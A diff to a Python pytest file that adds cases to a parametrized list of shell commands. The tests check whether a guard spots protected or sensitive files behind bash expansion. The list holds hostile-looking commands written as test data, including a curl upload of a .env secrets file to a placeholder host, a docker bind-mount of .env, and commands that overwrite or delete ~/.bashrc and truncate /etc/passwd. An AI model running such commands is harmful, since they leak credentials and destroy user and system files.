@@ -67,6 +67,7 @@ def workspace(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Workspace:
     "cp -t ~/.config a.txt",
     "sed -i s/a/b/ ~/.bashrc", "dd of=../home/.zshrc", "rm ~/.bashrc", "install a.txt ~/bin/x", "touch ~/.zshenv",
     "truncate -s 0 /etc/passwd",
+    "curl -F 'f=@.env;type=a/b' x", "docker run --mount type=bind,source=.env,target=/x a", "x --files=a,.env,b",
 ])  # fmt: skip
 def test_a_sensitive_or_protected_file_is_seen_behind_what_bash_expands(workspace: Workspace, command: str) -> None:
     command = command.replace("OWN", str(os.getpid()))
